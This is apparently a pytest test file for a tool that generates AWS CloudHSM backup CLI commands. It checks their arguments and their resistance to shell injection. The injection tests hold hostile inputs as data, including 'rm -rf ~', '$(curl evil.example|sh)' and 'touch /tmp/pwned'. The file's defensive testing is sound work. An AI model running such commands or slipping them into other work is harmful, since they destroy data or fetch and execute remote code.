"""AWS CLI commands for one backup: right arguments, and no way for an ID to inject shell."""

from __future__ import annotations

import json
import shlex
import subprocess
from datetime import UTC, datetime
from pathlib import Path

import botocore.session
import pytest
from botocore import xform_name

from tui.backups import Backup, BackupQuery, clean
from tui.backups.commands import COMMAND_KEYS, backup_json, cli_commands, continued
from tui.backups.export import ExportContext, export_json

NORMAL = Backup.from_api(
    {
        "BackupId": "backup-abcdefghij2",
        "BackupArn": "arn:aws:cloudhsm:us-east-1:123456789012:backup/backup-abcdefghij2",
        "BackupState": "READY",
        "ClusterId": "cluster-234567abcde",
        "CreateTimestamp": datetime(2026, 11, 20, 3, 0, 5, tzinfo=UTC),
        "TagList": [{"Key": "env", "Value": "prod"}],
        "HsmType": "hsm2m.medium",
        "Mode": "FIPS",
    }
)
BARE = Backup.from_api({"BackupId": "backup-bcdefghijk3", "BackupState": "READY"})


def _value_after(argv: list[str], flag: str) -> str:
    """The value the aws CLI will see for `flag`, in either `--flag v` or `--flag=v` form."""
    for i, arg in enumerate(argv):
        if arg == flag:
            return argv[i + 1]
        if arg.startswith(flag + "="):
            return arg[len(flag) + 1 :]
    raise AssertionError(f"{flag} not in {argv}")


def test_exact_commands_for_a_normal_backup() -> None:
    cmds = cli_commands(
        NORMAL, region="us-east-1", profile="prod-admin", destination_region="eu-west-1"
    )
    tail = " --region us-east-1 --profile prod-admin"
    bid = "backup-abcdefghij2"
    assert cmds == {
        "describe": f"aws cloudhsmv2 describe-backups --filters backupIds={bid}" + tail,
        "list_tags": f"aws cloudhsmv2 list-tags --resource-id {bid}" + tail,
        "restore": f"aws cloudhsmv2 restore-backup --backup-id {bid}" + tail,
        "copy": "aws cloudhsmv2 copy-backup-to-region --destination-region eu-west-1"
        f" --backup-id {bid}" + tail,
        "create_cluster": f"aws cloudhsmv2 create-cluster --source-backup-id {bid}"
        " --hsm-type hsm2m.medium --subnet-ids '<SUBNET-ID>' --mode FIPS" + tail,
        "never_expires": f"aws cloudhsmv2 modify-backup-attributes --backup-id {bid}"
        " --never-expires" + tail,
        "tag": f"aws cloudhsmv2 tag-resource --resource-id {bid}"
        " --tag-list 'Key=<TAG-KEY>,Value=<TAG-VALUE>'" + tail,
        "untag": f"aws cloudhsmv2 untag-resource --resource-id {bid} --tag-key-list '<TAG-KEY>'"
        + tail,
        "delete": f"aws cloudhsmv2 delete-backup --backup-id {bid}" + tail,
    }
    assert tuple(cmds) == COMMAND_KEYS


def test_a_backup_that_never_expires_is_offered_the_way_back() -> None:
    never = Backup.from_api({"BackupId": "backup-abcdefghij2", "NeverExpires": True})
    command = cli_commands(never, region=None, profile=None)["never_expires"]
    assert command.endswith(" --no-never-expires")


def test_every_command_asks_the_endpoint_the_app_listed() -> None:
    url = "https://cloudhsmv2.vpce-0abc.example.internal"
    cmds = cli_commands(NORMAL, region="us-east-1", profile=None, endpoint_url=url)
    for key, command in cmds.items():
        assert _value_after(shlex.split(command), "--endpoint-url") == url, key


def test_a_shared_backup_is_described_with_shared_and_restored_into_a_cluster_by_arn() -> None:
    shared = Backup.from_api(
        {
            "BackupId": "backup-abcdefghij2",
            "BackupArn": "arn:aws:cloudhsm:us-east-1:444455556666:backup/backup-abcdefghij2",
            "HsmType": "hsm2m.medium",
        }
    )
    cmds = cli_commands(shared, region="us-east-1", profile=None, shared=True)
    assert "--shared" in shlex.split(cmds["describe"])
    create = shlex.split(cmds["create_cluster"])
    assert _value_after(create, "--source-backup-id") == shared.arn
    own = cli_commands(NORMAL, region="us-east-1", profile=None)
    assert "--shared" not in shlex.split(own["describe"])


def test_every_option_is_one_the_operation_takes() -> None:
    """Each `--option` is a member of the operation's input shape (or one of the CLI's own)."""
    model = botocore.session.get_session().get_service_model("cloudhsmv2")
    globals_ = {"--region", "--profile", "--endpoint-url"}
    backup = Backup.from_api({**_api(NORMAL), "NeverExpires": True})
    for shared in (False, True):
        cmds = cli_commands(backup, region="r", profile="p", endpoint_url="u", shared=shared)
        for key, command in cmds.items():
            argv = shlex.split(command)
            assert argv[:2] == ["aws", "cloudhsmv2"]
            operation = next(
                name for name in model.operation_names if xform_name(name, "-") == argv[2]
            )
            shape = model.operation_model(operation).input_shape
            assert shape is not None
            members = {"--" + xform_name(m, "-") for m in shape.members}
            members |= {"--no-" + xform_name(m, "-") for m in shape.members}
            flags = {a.split("=", 1)[0] for a in argv[3:] if a.startswith("--")}
            assert flags <= members | globals_, (key, flags - members - globals_)
            for member in shape.required_members:
                flag = xform_name(member, "-")
                assert {f"--{flag}", f"--no-{flag}"} & flags, (key, member)


def _api(backup: Backup) -> dict[str, object]:
    return {
        "BackupId": backup.backup_id,
        "BackupArn": backup.arn,
        "HsmType": backup.hsm_type,
        "Mode": backup.mode,
    }


def test_placeholders_when_the_backup_or_caller_cannot_say() -> None:
    cmds = cli_commands(BARE, region=None, profile=None)
    assert cmds["copy"] == (
        "aws cloudhsmv2 copy-backup-to-region --destination-region '<DESTINATION-REGION>'"
        " --backup-id backup-bcdefghijk3"
    )
    assert cmds["create_cluster"] == (
        "aws cloudhsmv2 create-cluster --source-backup-id backup-bcdefghijk3"
        " --hsm-type '<HSM-TYPE>' --subnet-ids '<SUBNET-ID>'"
    )
    assert all("--region" not in c and "--profile" not in c for c in cmds.values())


def test_create_cluster_passes_every_required_argument_of_the_model() -> None:
    model = botocore.session.get_session().get_service_model("cloudhsmv2")
    shape = model.operation_model("CreateCluster").input_shape
    assert shape is not None
    assert "Mode" in shape.members
    argv = shlex.split(cli_commands(NORMAL, region=None, profile=None)["create_cluster"])
    for member in shape.required_members:
        _value_after(argv, "--" + xform_name(member, "-"))


@pytest.mark.parametrize(
    "hostile_id",
    [
        "backup-abcdefghij2; rm -rf ~ #",
        "backup-abc$(curl evil.example|sh)`id`",
        "backup-x'\"; touch /tmp/pwned; echo '",
        "backup-abc\x1b[2J\nwhoami\u202e",
        "--endpoint-url=https://evil.example",
        "backupIds=a,b",
    ],
)
def test_hostile_backup_id_stays_one_argument(hostile_id: str) -> None:
    backup = Backup.from_api({"BackupId": hostile_id, "HsmType": "hsm1.medium"})
    cmds = cli_commands(backup, region="us-east-1", profile="dev")
    expected = clean(hostile_id)
    for key, flag in [
        ("restore", "--backup-id"),
        ("copy", "--backup-id"),
        ("create_cluster", "--source-backup-id"),
    ]:
        argv = shlex.split(cmds[key])
        assert _value_after(argv, flag) == expected
        assert argv[-4:] == ["--region", "us-east-1", "--profile", "dev"]
        assert sum(expected in arg for arg in argv) == 1  # nothing spilled into other words
    describe = shlex.split(cmds["describe"])
    assert json.loads(_value_after(describe, "--filters")) == {"backupIds": [expected]}
    assert all(clean(c) == c for c in cmds.values())


def test_hostile_profile_and_region_are_quoted() -> None:
    cmds = cli_commands(NORMAL, region="us-east-1 && id", profile="dev$(id)\x1b[0m")
    argv = shlex.split(cmds["restore"])
    assert _value_after(argv, "--region") == "us-east-1 && id"
    assert _value_after(argv, "--profile") == "dev$(id) [0m"
    assert len(argv) == 9


def _pasted(shown: str) -> list[str]:
    """The words a shell reads from `shown`: a `\\` at a line end joins the lines."""
    return shlex.split(shown.replace("\\\n", ""))


def test_continued_puts_each_option_on_a_line_of_its_own() -> None:
    command = cli_commands(NORMAL, region="us-east-1", profile=None)["copy"]
    assert continued(command) == (
        "aws cloudhsmv2 copy-backup-to-region \\\n"
        "  --destination-region '<DESTINATION-REGION>' \\\n"
        "  --backup-id backup-abcdefghij2 \\\n"
        "  --region us-east-1"
    )
    assert continued("aws cloudhsmv2 describe-backups") == "aws cloudhsmv2 describe-backups"


def test_continued_runs_in_bash_as_the_one_line_command() -> None:
    """Pasted into bash, the lines are one command with the one-line command's arguments."""
    for command in cli_commands(NORMAL, region="us-east-1", profile="prod-admin").values():
        script = "aws() { printf '%s\\0' \"$@\"; }\n" + continued(command) + "\n"
        ran = subprocess.run(["bash", "-c", script], capture_output=True, check=True, text=True)
        assert ["aws", *ran.stdout.split("\0")[:-1]] == shlex.split(command)


@pytest.mark.parametrize(
    "backup_id",
    [
        "backup-abcdefghij2; rm -rf ~ #",
        "backup-x'\"; touch /tmp/pwned; echo '",
        "backup-x --region evil \\",
        "--endpoint-url=https://evil.example",
        "backupIds=a,b",
    ],
)
def test_continued_keeps_every_argument_of_a_hostile_command(backup_id: str) -> None:
    backup = Backup.from_api({"BackupId": backup_id, "HsmType": "hsm1.medium"})
    for command in cli_commands(backup, region="us-east-1", profile="dev x").values():
        shown = continued(command)
        assert _pasted(shown) == shlex.split(command)
        assert all(line.endswith(" \\") for line in shown.split("\n")[:-1])
        subprocess.run(["bash", "-n", "-c", shown], check=True)  # parsed, never run


def test_backup_json_is_one_entry_of_a_json_export(tmp_path: Path) -> None:
    context = ExportContext(
        profile=None,
        region="us-east-1",
        query=BackupQuery(),
        exported_at=datetime(2026, 11, 27, 23, 30, tzinfo=UTC),
        tool_version="0.1.0",
    )
    export_json(tmp_path / "one.json", [NORMAL], context)
    exported = json.loads((tmp_path / "one.json").read_text(encoding="utf-8"))["backups"][0]
    text = backup_json(NORMAL)
    # The API's fields, as exported; the export adds the tool's computed `expiry`.
    assert json.loads(text) == {k: v for k, v in exported.items() if k != "expiry"}
    assert text.startswith('{\n  "BackupId": "backup-abcdefghij2",\n')
    assert json.loads(text)["TagList"] == [{"Key": "env", "Value": "prod"}]
